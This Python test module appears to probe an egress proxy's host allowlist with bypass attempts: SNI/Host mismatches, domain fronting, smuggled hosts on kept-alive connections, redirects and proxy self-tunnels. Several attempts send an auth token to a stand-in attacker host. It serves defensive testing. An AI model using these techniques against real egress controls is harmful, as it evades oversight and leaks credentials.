"""Tries to have a request delivered to another than the one that it was approved for."""
import itertools
from attack import *

CDN, TENANT = "front.acme.example", "tenant.cdn.example"


def combination(hosts):
    connect, sni, host = hosts
    name = "mismatch_" + "_".join("api" if one == API else "evil" for one in hosts)

    def attempt(mark):
        with secure(reach(connect, 443), sni) as sock:
            return talk(sock, request(mark, "/hello", host=host, auth=TOKEN))

    ATTACKS[name] = attempt


for hosts in itertools.product((API, EVIL), repeat=3):
    if hosts != (API, API, API):
        combination(hosts)


@attack
def absolute_inside(mark):
    return ask(mark, f"https://{EVIL}/hello")


@attack
def absolute_inside_both(mark):
    with tls() as sock:
        return talk(sock, request(mark, f"https://{EVIL}/hello", host=EVIL, auth=TOKEN))


@attack
def absolute_other_port(mark):
    return ask(mark, f"https://{API}:8443/hello")


@attack
def two_hosts(mark):
    return ask(mark, "/hello", headers=[f"Host: {EVIL}"])


@attack
def two_hosts_reversed(mark):
    with tls() as sock:
        return talk(sock, request(mark, "/hello", host=EVIL, headers=[f"Host: {API}"], auth=TOKEN))


@attack
def host_list(mark):
    with tls() as sock:
        return talk(sock, request(mark, "/hello", host=f"{API}, {EVIL}", auth=TOKEN))


@attack
def address_with_name(mark):
    """Plain HTTP at the attacker's address, in the name of an approved host."""
    if proxy():
        return absolute(mark, f"http://{EVIL_ADDRESS}/hello", PLAIN)
    with straight(EVIL_ADDRESS, 80) as sock:
        return talk(sock, request(mark, "/hello", host=PLAIN))


@attack
def address_past_proxy(mark):
    """The same without asking a proxy."""
    with straight(EVIL_ADDRESS, 80) as sock:
        return talk(sock, request(mark, "/hello", host=PLAIN))


@attack
def address_tls(mark):
    """TLS to the attacker's address with the approved name in SNI and Host."""
    with secure(straight(EVIL_ADDRESS, 443), API) as sock:
        return talk(sock, request(mark, "/hello"))


@attack
def fronting(mark):
    """Two customers of one server: the approved one in the handshake, the other in the request."""
    with tls(CDN) as sock:
        return talk(sock, request(mark, "/hello", host=TENANT))


@attack
def fronting_plain(mark):
    if proxy():
        return absolute(mark, f"http://{PLAIN}/hello", TENANT)
    with straight(PLAIN, 80) as sock:
        return talk(sock, request(mark, "/hello", host=TENANT))


@attack
def ok_front(mark):
    return ask(mark, "/hello", host=CDN)


@attack
def redirect(mark):
    """Follows the redirect of an approved host, with the credential."""
    answer = ask(mark, "/redirect")
    if b"https://evil.example" not in answer:
        return answer
    with tls(EVIL) as sock:
        return talk(sock, request(mark, "/redirected", host=EVIL, auth=TOKEN))


@attack
def redirect_to_plain(mark):
    """A redirect to the same name in clear must not take the credential along."""
    return ask_plain(mark, "/redirected", host=API, auth=TOKEN)


@attack
def ok_redirect(mark):
    return ask(mark, "/redirect")


@attack
def kept_other_host(mark):
    with tls() as sock:
        sock.sendall(request("ok", "/hello", close=False))
        one_answer(sock)
        return talk(sock, request(mark, "/hello", host=EVIL, auth=TOKEN))


@attack
def kept_other_path(mark):
    with tls(RULES) as sock:
        sock.sendall(request("ok", "/open/first", host=RULES, close=False))
        one_answer(sock)
        return talk(sock, request(mark, "/smuggled/kept", host=RULES))


@attack
def kept_at_proxy(mark):
    if not proxy():
        return absolute(mark, f"http://{EVIL}/hello", EVIL)
    auth = [proxy()[2].strip()] if proxy()[2] else []
    with to_proxy() as sock:
        sock.sendall(request("ok", f"http://{PLAIN}/hello", host=PLAIN, headers=auth, close=False))
        one_answer(sock)
        return talk(sock, request(mark, f"http://{EVIL}/hello", host=EVIL, headers=auth))


def certificate(name):
    host = f"{name}.acme.example"

    def attempt(mark):
        with tls(host) as sock:
            return talk(sock, request(mark, "/hello", host=host, auth=TOKEN))

    ATTACKS[f"certificate_{name}"] = attempt


for name in ("wrong", "expired", "unknown", "future"):
    certificate(name)


@attack
def proxy_to_itself(mark):
    """A tunnel to the proxy, and in it a request that is judged as if it came from elsewhere."""
    host, port, auth = proxy()
    with tunnel(f"{host}:{port}") as sock:
        return talk(sock, request(mark, f"http://{EVIL}/hello", host=EVIL,
                                  headers=[auth.strip()] if auth else []))


@attack
def proxy_as_origin(mark):
    """The proxy's own pages, by its address and its loopback names."""
    host, port, _ = proxy()
    seen = b""
    for name in (host, "127.0.0.1", "localhost", "mitm.it"):
        seen += absolute(mark, f"http://{name}:{port}/", f"{name}:{port}")
    return seen


@attack
def plain_evil(mark):
    return absolute(mark, f"http://{EVIL}/hello", EVIL)


@attack
def plain_of_secret_host(mark):
    """In clear to a host that is approved for https alone."""
    return ask_plain(mark, "/hello", host=API, auth=TOKEN)


@attack
def straight_evil(mark):
    with straight(EVIL_ADDRESS, 443) as raw, secure(raw, EVIL) as sock:
        return talk(sock, request(mark, "/hello", host=EVIL, auth=TOKEN))


@attack
def ok_plain(mark):
    return ask_plain(mark, "/hello")


@attack
def ok_open(mark):
    return ask(mark, "/hello", host=OPEN)
